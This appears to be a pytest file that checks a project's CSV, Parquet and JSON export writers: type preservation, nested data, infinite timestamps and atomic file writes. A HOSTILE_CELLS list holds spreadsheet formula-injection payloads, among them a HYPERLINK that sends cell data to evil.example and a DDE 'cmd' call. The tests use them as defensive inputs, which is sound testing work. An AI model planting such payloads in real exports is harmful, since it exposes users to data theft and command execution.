"""Answers written away: what Parquet keeps, and what a query that breaks off leaves."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from projections.errors import OutputRefused, QueryRefused
from projections.read.export import WRITERS, write_file, write_raw_csv

INFINITE = 9_223_372_036_854_775_807


def query_result(query: str) -> tuple[pa.Schema, Iterator[pa.RecordBatch]]:
    connection = duckdb.connect()
    connection.execute("SET TimeZone = 'UTC'")
    reader = connection.execute(query).to_arrow_reader(2)
    return reader.schema, iter(reader)


def written(form: str, query: str) -> bytes:
    target = io.BytesIO()
    WRITERS[form](target, *query_result(query))
    return target.getvalue()


def read_back(content: bytes, folder: Path, columns: str = "*") -> tuple[list[str], list[Any]]:
    """Types and rows as DuckDB reads a Parquet file."""
    (folder / "rows.parquet").write_bytes(content)
    with duckdb.connect() as connection:
        connection.execute("SET TimeZone = 'UTC'")
        found = connection.execute(f"SELECT {columns} FROM '{folder}/rows.parquet'")
        return [str(column[1]) for column in found.description or ()], found.fetchall()


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "-1+cmd|' /C calc'!A0",
    "+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
]


class TestCsv:
    @pytest.mark.parametrize("cell", HOSTILE_CELLS)
    def test_no_text_begins_a_formula(self, cell: str) -> None:
        quoted = cell.replace("'", "''")
        query = f"""SELECT '{quoted}' AS text, ['{quoted}'] AS list,
            '{quoted}'::ENUM ('{quoted}') AS choice, 1 AS "{cell.replace('"', '""')}" """
        rows = list(csv.reader(io.StringIO(written("csv", query).decode(), newline="")))
        assert rows[1] == [f"'{cell}", json.dumps([cell], ensure_ascii=False), f"'{cell}", "1"]
        assert rows[0][-1] == f"'{cell}"
        raw = io.BytesIO()
        write_raw_csv(raw, *query_result(query))
        assert list(csv.reader(io.StringIO(raw.getvalue().decode(), newline="")))[1][0] == cell

    def test_numbers_and_times_stay(self) -> None:
        query = (
            "SELECT -1 AS a, -1.5 AS b, '-infinity'::TIMESTAMPTZ AS c, -INTERVAL 1 DAY AS d, 'a-b=c' AS e, NULL AS f"
        )
        first = written("csv", query).decode().splitlines()[1].split(",")
        assert first[:3] == ["-1", "-1.5", "-infinity"]
        assert not first[3].startswith("'")
        assert first[-2:] == ["a-b=c", ""]


class TestParquet:
    def test_instants_preserve_type_and_zone(self, tmp_path: Path) -> None:
        content = written(
            "parquet", "SELECT TIMESTAMPTZ '2025-04-02 09:30:00.123456Z' AS moment, DATE '2025-04-02' AS day"
        )
        assert pq.read_schema(io.BytesIO(content)).field("moment").type == pa.timestamp("us", "UTC")
        types, rows = read_back(content, tmp_path, "moment, day, moment::VARCHAR")
        assert types[:2] == ["TIMESTAMP WITH TIME ZONE", "DATE"]
        assert rows[0][2] == "2025-04-02 09:30:00.123456+00"

    def test_infinity_survives(self, tmp_path: Path) -> None:
        query = """SELECT 'infinity'::TIMESTAMPTZ AS a, '-infinity'::TIMESTAMPTZ AS b, ['infinity'::TIMESTAMPTZ] AS c,
            {'x': '-infinity'::TIMESTAMPTZ} AS d, NULL::TIMESTAMPTZ AS e"""
        content = written("parquet", query)
        _, rows = read_back(content, tmp_path, "COLUMNS(*)::VARCHAR")
        assert rows == [("infinity", "-infinity", "[infinity]", "{'x': -infinity}", None)]
        table = pq.read_table(io.BytesIO(content))
        assert [table.column(name).cast(pa.int64())[0].as_py() for name in ("a", "b")] == [INFINITE, -INFINITE]

    def test_lists_and_structs_stay_nested(self, tmp_path: Path) -> None:
        query = "SELECT [1, 2] AS l, {'a': 1, 'b': ['x']} AS s, [{'a': 1.5}] AS ls, uuid() AS key, 1::HUGEINT AS h"
        types, rows = read_back(written("parquet", query), tmp_path)
        assert types == [
            "INTEGER[]",
            "STRUCT(a INTEGER, b VARCHAR[])",
            "STRUCT(a DECIMAL(2,1))[]",
            "VARCHAR",
            "DECIMAL(38,0)",
        ]
        assert rows[0][:2] == ([1, 2], {"a": 1, "b": ["x"]})

    def test_of_no_rows_it_has_the_columns(self, tmp_path: Path) -> None:
        types, rows = read_back(written("parquet", "SELECT 1 AS x, 'a' AS y WHERE false"), tmp_path)
        assert (types, rows) == (["INTEGER", "VARCHAR"], [])

    def test_columns_of_one_name_are_numbered(self) -> None:
        assert pq.read_schema(io.BytesIO(written("parquet", "SELECT 1 AS x, 2 AS x, 3 AS y"))).names == [
            "x",
            "x_2",
            "y",
        ]

    def test_a_pipe_will_do(self) -> None:
        class Pipe(io.BytesIO):
            def seekable(self) -> bool:
                return False

            def tell(self) -> int:
                raise OSError("a pipe")

        target = Pipe()
        WRITERS["parquet"](target, *query_result("SELECT i FROM range(10) AS r(i)"))
        assert pq.read_table(io.BytesIO(target.getvalue())).num_rows == 10

    @pytest.mark.parametrize("value", ["INTERVAL 1 DAY", "union_value(a := 1)", "[INTERVAL 1 DAY]"])
    def test_a_type_that_it_has_not(self, value: str) -> None:
        with pytest.raises(OutputRefused, match="the column `odd`") as raised:
            written("parquet", f"SELECT 1 AS x, {value} AS odd")
        assert '"odd"::VARCHAR' in raised.value.hint


def test_the_other_forms_hold_the_same_rows() -> None:
    query = "SELECT i, 'a,\"b\"\nc' AS text, [i] AS list, 'infinity'::TIMESTAMPTZ AS moment, NULL AS none FROM range(5) AS r(i)"
    rows = json.loads(written("json", query))
    assert rows[1] == {"i": 1, "text": 'a,"b"\nc', "list": [1], "moment": "infinity", "none": None}
    assert [json.loads(line) for line in written("jsonl", query).splitlines()] == rows
    table = list(csv.DictReader(io.StringIO(written("csv", query).decode(), newline="")))
    assert [(row["i"], row["text"], row["list"]) for row in table] == [
        (str(row["i"]), row["text"], str(row["list"])) for row in rows
    ]
    none = "SELECT 1 AS x WHERE false"
    assert (written("json", none), written("jsonl", none), written("csv", none)) == (b"[]\n", b"", b"x\r\n")


def broken_off(form: str, target: Any) -> None:
    schema, batches = query_result("SELECT i FROM range(10) AS r(i)")

    def some() -> Iterator[pa.RecordBatch]:
        yield next(batches)
        raise QueryRefused("stopped")

    WRITERS[form](target, schema, some())


@pytest.mark.parametrize(("form", "read"), [("json", json.load), ("parquet", pq.read_table)])
def test_part_of_an_answer_is_never_taken_for_the_whole(form: str, read: Any) -> None:
    target = io.BytesIO()
    with pytest.raises(QueryRefused):
        broken_off(form, target)
    target.seek(0)
    with pytest.raises((pa.ArrowInvalid, json.JSONDecodeError)):
        read(target)


class TestFiles:
    def test_one_is_whole_or_not_there(self, tmp_path: Path) -> None:
        path = tmp_path / "rows.parquet"
        schema, _ = query_result("SELECT 1 AS x")
        with pytest.raises(QueryRefused):
            write_file(path, lambda target, _schema, _batches: broken_off("parquet", target), schema, iter(()))
        assert list(tmp_path.iterdir()) == []
        path.write_text("old")
        write_file(path, WRITERS["parquet"], *query_result("SELECT 1 AS x"))
        assert pq.read_table(path).num_rows == 1
        assert list(tmp_path.iterdir()) == [path]

    def test_one_that_cannot_be_written_is_reported(self, tmp_path: Path) -> None:
        with pytest.raises(OutputRefused, match=r"nowhere/rows\.csv cannot be written"):
            write_file(tmp_path / "nowhere" / "rows.csv", WRITERS["csv"], *query_result("SELECT 1 AS x"))
